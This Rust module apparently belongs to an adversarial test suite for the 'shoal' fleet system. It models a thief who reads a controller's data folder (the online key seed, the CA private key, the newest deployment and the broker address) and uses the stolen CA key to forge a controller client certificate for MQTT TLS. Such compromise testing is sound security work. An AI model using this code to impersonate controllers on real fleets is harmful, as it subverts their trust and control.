//! What a thief finds in a controller's data folder, and what can be made of it: any certificate of the fleet's CA.

use anyhow::{Context as _, Result};
use rcgen::{CertificateParams, DnType, ExtendedKeyUsagePurpose, Issuer, KeyPair};
use rusqlite::{Connection, OpenFlags};
use rustls::RootCertStore;
use rustls::pki_types::pem::PemObject as _;
use rustls::pki_types::{CertificateDer, PrivateKeyDer, PrivatePkcs8KeyDer};
use shoal_protocol::codec::{self, Limits};
use shoal_protocol::envelope::Envelope;
use shoal_protocol::ids::FleetId;
use shoal_protocol::latest::{Kind, Root};
use shoal_protocol::topics::CONTROLLER;
use std::path::Path;
use std::sync::Arc;

/// The controller's secrets and the newest real deployment.
pub(crate) struct Loot {
    /// Seed of the online key.
    pub(crate) online: [u8; 32],
    pub(crate) fleet: FleetId,
    pub(crate) broker: (String, u16),
    pub(crate) deployment: Vec<u8>,
    ca_certificate: String,
    ca_key: String,
}

impl Loot {
    /// Reads a controller's data folder.
    pub(crate) fn take(data: &Path) -> Result<Self> {
        let path = data.join("identity.json");
        let text = std::fs::read_to_string(&path).with_context(|| format!("read {}", path.display()))?;
        let identity: serde_json::Value = serde_json::from_str(&text)?;
        let word =
            |name: &str| identity[name].as_str().map(str::to_owned).with_context(|| format!("no {name}"));
        let mut seed = [0; 32];
        hex::decode_to_slice(word("online_key")?, &mut seed)?;

        let store = data.join("shoald.db");
        let store = Connection::open_with_flags(&store, OpenFlags::SQLITE_OPEN_READ_ONLY)
            .with_context(|| format!("open {}", store.display()))?;
        let blob = |query: &str| store.query_row(query, [], |row| row.get::<_, Vec<u8>>(0));
        let first =
            blob("SELECT envelope FROM roots ORDER BY version LIMIT 1").context("no root in the store")?;
        let newest = blob("SELECT envelope FROM roots ORDER BY version DESC LIMIT 1")?;
        let root: Root =
            codec::decode(Envelope::parse(&newest)?.payload(), Limits::of_size(Kind::Root.size_cap()))?;
        let url = root.controller.mqtt.first().context("the root names no broker")?;
        let (host, port) = url
            .strip_prefix("mqtts://")
            .and_then(|rest| rest.rsplit_once(':'))
            .with_context(|| format!("{url} is no broker's address"))?;
        Ok(Self {
            online: seed,
            fleet: FleetId::of_root(&Envelope::parse(&first)?.identity()),
            broker: (host.to_owned(), port.parse().with_context(|| format!("the port in {url}"))?),
            deployment: blob("SELECT envelope FROM documents ORDER BY stored_at DESC, sequence DESC LIMIT 1")
                .context("no deployment in the store")?,
            ca_certificate: word("ca_certificate")?,
            ca_key: word("ca_key")?,
        })
    }

    /// A TLS client with a certificate as the controller's own, signed by the stolen CA key.
    pub(crate) fn tls(&self) -> Result<Arc<rustls::ClientConfig>> {
        let issuer = Issuer::from_ca_cert_pem(&self.ca_certificate, KeyPair::from_pem(&self.ca_key)?)?;
        let key = KeyPair::generate()?;
        let mut params = CertificateParams::default();
        params.distinguished_name.push(DnType::CommonName, CONTROLLER);
        params.extended_key_usages = vec![ExtendedKeyUsagePurpose::ClientAuth];
        let certificate = params.signed_by(&key, &issuer)?;
        let mut roots = RootCertStore::empty();
        roots.add(CertificateDer::from_pem_slice(self.ca_certificate.as_bytes())?)?;
        let provider = Arc::new(rustls::crypto::ring::default_provider());
        let mut config = rustls::ClientConfig::builder_with_provider(provider)
            .with_safe_default_protocol_versions()?
            .with_root_certificates(roots)
            .with_client_auth_cert(
                vec![certificate.der().clone()],
                PrivateKeyDer::Pkcs8(PrivatePkcs8KeyDer::from(key.serialize_der())),
            )?;
        config.alpn_protocols = vec![b"mqtt".to_vec()];
        Ok(Arc::new(config))
    }
}
